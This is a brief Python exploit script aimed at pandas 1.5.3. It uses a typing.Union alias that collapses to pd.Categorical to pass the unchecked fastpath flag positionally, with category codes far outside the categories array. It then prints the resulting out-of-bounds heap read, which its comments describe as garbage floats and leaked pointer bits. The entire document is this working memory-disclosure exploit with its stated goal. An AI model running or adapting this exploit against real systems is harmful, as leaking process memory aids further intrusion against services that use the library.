# source: pandas 1.5.3 pandas/core/arrays/categorical.py Categorical.__init__ (fastpath=True keeps codes unchecked); CPython typing/types.UnionType: a union of one class collapses to that class
# family: type alias of a pandas class (union that collapses to the class itself) calls the constructor with the refused positional fastpath
# goal: out-of-bounds heap read: category codes past the categories array are read by take_nd (garbage floats / leaked pointer bits printed)
import typing
import numpy as np
import pandas as pd
Codes = typing.Union[pd.Categorical, pd.Categorical]
x = Codes(np.array([0, 1, 100, 120, 127, -100], dtype=np.int64), pd.Index([1.5, 2.5]), False, None, True)
print("codes", x.codes.tolist())
print("values read out of bounds", np.asarray(x).tolist())
